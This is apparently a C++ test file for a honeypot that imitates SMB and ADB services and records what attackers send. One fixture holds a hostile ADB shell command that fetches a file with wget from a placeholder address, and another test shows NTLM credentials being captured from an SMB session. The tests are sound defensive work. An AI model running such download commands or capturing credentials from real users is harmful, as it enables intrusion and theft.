// SMB and ADB: negotiation, names, exact sizes.
#include <doctest/doctest.h>

#include "observe/respond/test_talk.hpp"

namespace hinomi::observe {
namespace {

std::string framed(const std::string& message) {
  return std::string("\0\0", 2) + static_cast<char>(message.size() >> 8) + static_cast<char>(message.size()) +
         message;
}
std::string head(char command, char number) {
  return "\xfeSMB" + std::string(8, '\0') + command + std::string(11, '\0') + number + std::string(39, '\0');
}
std::string field(std::size_t size, std::size_t at) {
  return {
      static_cast<char>(size), '\0', static_cast<char>(size), '\0', static_cast<char>(at), '\0', '\0', '\0'};
}

TEST_CASE("Respond smb_challenges_and_records_who_answers") {
  const std::string dialects = std::string("\x24\0\2\0", 4) + std::string(32, '\0') + "\x02\x02\x10\x02";
  const std::string first("NTLMSSP\0\1\0\0\0", 12);
  const std::string third = std::string("NTLMSSP\0\3\0\0\0", 12) + field(0, 0) + field(16, 56) +
                            field(2, 52) + field(2, 54) + std::string(8, '\0') + std::string("D\0u\0", 4) +
                            "sixteen bytes ab";
  const Spoken spoken = speak(SessionProtocol::smb, {framed(head(0, 1) + dialects),
                                                     framed(head(1, 2) + std::string(24, '\0') + first),
                                                     framed(head(1, 3) + std::string(24, '\0') + third)});
  REQUIRE(spoken.session.credentials.size() == 1);
  CHECK(spoken.session.credentials[0].user == "D\\u");
  CHECK(spoken.session.credentials[0].password.ends_with("$7369787465656e206279746573206162"));
  CHECK(spoken.session.end == SessionEnd::by_responder);
  CHECK(spoken.answered.find("NTLMSSP") != std::string::npos);
  CHECK(spoken.answered.substr(4 + 64 + 4, 2) == "\x10\x02");  // the dialect agreed on
}

TEST_CASE("Respond smb_1_alone_is_a_payload_and_with_smb_2_is_answered") {
  const Spoken worm =
      speak(SessionProtocol::unknown, {framed("\xffSMBr" + std::string(30, '\0') + "NT LM 0.12")}, 445);
  CHECK(worm.session.protocol == SessionProtocol::smb);
  CHECK(worm.session.payloads.size() == 1);
  CHECK(worm.answered.empty());
  const Spoken newer =
      speak(SessionProtocol::smb, {framed("\xffSMBr" + std::string(30, '\0') + "SMB 2.???")});
  CHECK(newer.answered.substr(4 + 64 + 4, 2) == "\xff\x02");
}

TEST_CASE("Respond adb_answers_a_shell_by_the_table") {
  const auto message = [](const std::string& word, const std::string& text) {
    std::string whole =
        word + std::string("\5\0\0\0\0\0\0\0", 8) + static_cast<char>(text.size()) + std::string(7, '\0');
    for (const char c : word) whole += static_cast<char>(~c);
    return whole + text;
  };
  const Spoken spoken = speak(SessionProtocol::adb,
                              {message("CNXN", std::string("host::\0", 7)) +
                               message("OPEN", std::string("shell:cd /tmp; wget http://192.0.2.6/a\0", 39))});
  CHECK(spoken.session.client_banner == "host::");
  CHECK(spoken.session.commands == std::vector<std::string>{"shell:cd /tmp; wget http://192.0.2.6/a"});
  CHECK(spoken.session.addresses_named == std::vector<std::string>{"http://192.0.2.6/a"});
  CHECK(spoken.answered.starts_with("CNXN"));
  CHECK(spoken.answered.find("wget: can't connect") != std::string::npos);
  CHECK(speak(SessionProtocol::adb, {std::string(24, 'x')}).session.end == SessionEnd::malformed);
}

}  // namespace
}  // namespace hinomi::observe
